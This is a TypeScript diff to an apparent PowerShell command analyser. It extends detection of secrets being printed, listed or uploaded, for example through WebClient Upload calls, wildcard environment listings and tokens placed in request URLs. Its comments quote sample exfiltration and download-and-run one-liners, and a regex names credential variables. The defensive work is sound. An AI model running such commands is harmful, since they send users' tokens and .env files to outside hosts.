@@ -28,6 +28,7 @@ interface PsWord {
 const COUNTS = new Set(["measure-object", "measure", "out-null"]);
 const WHERE = new Set(["where-object", "where", "?"]);
 /** A name pattern that could select a secret's variable (`*TOKEN*`, `*`, `AWS_*`), or one with too few letters to tell. */
+import { SECRET_VAR } from "./secret-names.ts";
 const SECRETISH_NAME = /SECRET|TOKEN|PASS|KEY|PRIVATE|CREDENTIAL|AUTH|AWS|AZURE|GITHUB|GH_|NPM|OPENAI|ANTHROPIC|SESSION|COOKIE/i;
 
 /** `Where-Object Name -like 'DOTNET_*'` (or `-match '^NODE_'`, `Key -eq 'PATH'`): a filter of the environment on a plain name. */
@@ -519,6 +520,13 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   }
   // `(New-Object Net.WebClient).DownloadString(URL) | iex`: the text fetched is what the next stage gets.
   for (const m of line.matchAll(/\.Download(?:String|Data)\(\s*['"]([^'"]+)['"]/gi)) out.push(simple(["invoke-webrequest", m[1] ?? ""], [false, false], cwd, via, true));
+  // `(New-Object Net.WebClient).UploadFile(URL, '.env')`, `.UploadString(URL, $env:GITHUB_TOKEN)`: what the client sends.
+  for (const m of line.matchAll(/\.Upload(File|String|Data|Values)\(\s*['"]([^'"]+)['"]\s*,\s*(?:['"][A-Za-z]+['"]\s*,\s*)?([^)]{1,300})\)/gi)) {
+    const what = (m[3] ?? "").trim();
+    const file = /^file$/i.test(m[1] ?? "") ? windowsPath(what.replace(/^['"]|['"]$/g, ""), home) : undefined;
+    const args = file !== undefined ? ["-T", file] : ["-d", what.replace(/^'|'$/g, "")];
+    out.push(simple(["invoke-webrequest", m[2] ?? "", ...args], [false, false, false, file === undefined && what.startsWith("$")], cwd, via, true));
+  }
   // `(New-Object Net.WebClient).DownloadFile(URL, 'a.exe')`: a file downloaded, to be run later on the line.
   for (const m of line.matchAll(/\.DownloadFile\(\s*['"]([^'"]+)['"]\s*,\s*['"]([^'"]+)['"]/gi)) out.push(simple(["invoke-webrequest", m[1] ?? "", "-o", windowsPath(m[2] ?? "", home)], [false, false, false, false], cwd, via, true));
   const tainted = words.some((w) => /^\$\w+$/.test(w.raw) && vars.get(w.raw.slice(1).toLowerCase()) === DOWNLOADED);
@@ -698,6 +706,12 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   }
   if (LIST.has(name)) {
     const named = paths.find((p) => /^env:\/?\w+$/i.test(p));
+    // `gci env:*TOKEN*`: every variable the pattern selects, with its value.
+    const selected = paths.find((p) => /^env:\/?[\w*?]*[*?][\w*?]*$/i.test(p));
+    if (selected !== undefined) {
+      if (SECRETISH_NAME.test(selected.slice(4)) || !/[A-Za-z]{2}/.test(selected.slice(4))) out.push(simple(["cat", "env:"], [false, false], cwd, via, true));
+      return out;
+    }
     if (paths.some((p) => /^env:\/?$/i.test(p))) out.push(simple(["env"], [false], cwd, via), simple(["cat", "env:"], [false, false], cwd, via, true));
     else if (named !== undefined) out.push(simple(["echo", `$${named.replace(/\//, "")}`], [false, true], cwd, via, true));
     else {
@@ -710,7 +724,9 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   }
   if (name === "write-output" || name === "write-host" || name === "echo" || name === "write") {
     const ws = rest.filter((w) => paramName(w) === undefined);
-    out.push(simple(["echo", ...ws.map((w) => (/^\$env:/i.test(w.raw) ? w.raw : psExpand(w, vars, home, cwd).text))], [false, ...ws.map((w) => /^\$/.test(w.raw) && !w.quoted)], cwd, via));
+    // `Write-Host "token: $env:GITHUB_TOKEN"`: a double-quoted string puts the variable's value in.
+    const inlined = (w: PsWord) => w.raw.startsWith('"') && SECRET_VAR.test(w.raw);
+    out.push(simple(["echo", ...ws.map((w) => (/^\$env:/i.test(w.raw) || inlined(w) ? w.raw : psExpand(w, vars, home, cwd).text))], [false, ...ws.map((w) => (/^\$/.test(w.raw) && !w.quoted) || inlined(w))], cwd, via));
     return out;
   }
   if (name === "set-content" || (name === "sc" && !/\.exe$/i.test(first.text)) || name === "out-file" || name === "add-content" || name === "ac") {
@@ -738,7 +754,10 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
       out.push(dump);
     }
     // `-Body $env:GITHUB_TOKEN`: what is sent, as curl's `-d` says it.
-    const bodyArgs = sent.flatMap((v) => ["-d", v]);
+    // `-Body $env:X` is what is sent; `-InFile f` is a file uploaded, as curl's `-T` says it.
+    const bodyArgs = [...(valueOf.has("body") ? ["-d", valueOf.get("body") ?? ""] : []), ...(valueOf.has("infile") ? ["-T", valueOf.get("infile") ?? ""] : [])];
+    // `iwr "https://x/?k=$env:GITHUB_TOKEN"`: the variable's value goes out in the URL.
+    for (const w of rest) if (w.raw.startsWith('"') && SECRET_VAR.test(w.raw) && /^"https?:\/\//i.test(w.raw)) bodyArgs.push(w.raw.slice(1, -1));
     out.push(simple(["invoke-webrequest", ...paths, ...bodyArgs, ...o], [false, ...pathDyn, ...bodyArgs.map(() => false), ...o.map(() => false)], cwd, via));
     return out;
   }
